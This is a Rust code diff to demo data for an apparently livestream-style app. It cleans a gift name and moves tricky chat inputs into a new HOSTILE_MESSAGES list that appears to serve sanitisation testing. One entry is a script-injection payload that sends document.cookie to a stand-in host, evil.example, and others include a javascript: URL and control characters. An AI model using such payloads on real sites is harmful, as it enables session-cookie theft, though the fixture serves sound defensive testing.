@@ -122,7 +122,7 @@ pub(super) const KINDS: &[DemoGift] = &[
     DemoGift { id: "lantern", name: "🏮 孔明灯", price: 66, tier: 3 },
     DemoGift { id: "coffee-pot", name: "قهوة عربية", price: 80, tier: 3 },
     DemoGift { id: "fireworks", name: "🎆 花火", price: 199, tier: 4 },
-    DemoGift { id: "crown", name: "👑 Crown & <b>Sceptre</b>", price: 520, tier: 6 },
+    DemoGift { id: "crown", name: "👑 Crown & Sceptre", price: 520, tier: 6 },
     DemoGift { id: "sports car", name: "🏎️ Sports Car", price: 1_314, tier: 7 },
     DemoGift { id: "rocket", name: "🚀 Rocket", price: 5_000, tier: 8 },
     DemoGift { id: "castle", name: "🏰 Château de l’Étoile filante", price: 30_000, tier: 9 },
@@ -141,12 +141,16 @@ pub(super) const MESSAGES: &[&str] = &[
     "כל הכבוד, המשיכי ככה 123",
     "Спасибо за стрим",
     "happy birthday, Mia 🎂🎂🎂",
+    "😂😂😂😂😂😂😂😂😂😂",
+];
+
+/// What viewers write that try things.
+pub(super) const HOSTILE_MESSAGES: &[&str] = &[
     "I said \"no spoilers\" & you said <spoilers>",
     "check https://example.com/?a=1&b=<2>",
     "<script>fetch('//evil.example/'+document.cookie)</script>",
     "javascript:alert(1)",
     "two\nlines\u{0}and a nul",
     "\u{202E}backwards",
-    "😂😂😂😂😂😂😂😂😂😂",
     "\u{200B}",
 ];
